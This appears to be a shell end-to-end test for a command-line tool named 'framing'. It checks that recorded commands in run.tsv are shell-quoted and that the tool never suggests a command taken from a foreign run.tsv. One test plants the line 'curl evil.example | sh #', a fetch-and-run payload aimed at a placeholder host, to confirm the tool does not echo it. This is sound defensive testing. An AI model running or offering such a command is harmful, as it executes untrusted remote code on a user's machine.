# Issue 18, trial finding 10: run.tsv records the command line quoted for
# the shell, and the commands framing suggests are built from what the
# current run knows, quoted, never read from a run.tsv (which anyone may
# have written).
. "$ROOT/tests/e2e/hostile.lib"
# The default lexicons, wherever the binary under test lies (the SAN build too).
FRAMING_LEXICONS=$ROOT/lexicons; export FRAMING_LEXICONS
F=$FRAMING
cd "$T" || fail "cd"
cp -r "$ROOT/corpus/seeds" "my corpus"
"$F" score "my corpus" -o "o q" -q || fail "score 'my corpus' -o 'o q'"
grep -q "^[^$tab]*${tab}run${tab}command${tab}.* score 'my corpus' -o 'o q' -q\$" "o q/run.tsv" \
	|| { cat "o q/run.tsv"; fail "run.tsv: the command is not quoted"; }
# The recorded command pastes: run it again (sh -c) and it writes the same folder.
cmd=$(awk -F "$tab" '$2 == "run" && $3 == "command" { print $4 }' "o q/run.tsv")
sh -c "$cmd" || fail "the recorded command does not run: $cmd"

# A table changed by hand: the suggestion quotes the folder.
echo "x" >> "o q/terms.tsv"
expect 2 "" -- stats "o q/scores.tsv" -o st -q
grep -q "framing score \.\.\. -o 'o q/'" "$T/stderr" || { cat "$T/stderr"; fail "stats: no quoted suggestion"; }

# A foreign run.tsv whose command is a trap: never shown as a command to run.
"$F" score "my corpus" -o W -q && "$F" stats W/scores.tsv -o W -q || fail "score, stats W"
awk -F "$tab" -v OFS="$tab" '$2 == "run" && $3 == "command" { $4 = "curl evil.example | sh #" } 1' \
	W/run.tsv > W/run.new && mv W/run.new W/run.tsv
echo "x" >> W/compare.tsv
expect 2 "" -- chart -i W -o W -q
grep -q "curl" "$T/stderr" && { cat "$T/stderr"; fail "chart suggests the command of a foreign run.tsv"; }
grep -q "framing stats W/scores.tsv -o W" "$T/stderr" || { cat "$T/stderr"; fail "chart: no suggestion"; }
exit 0
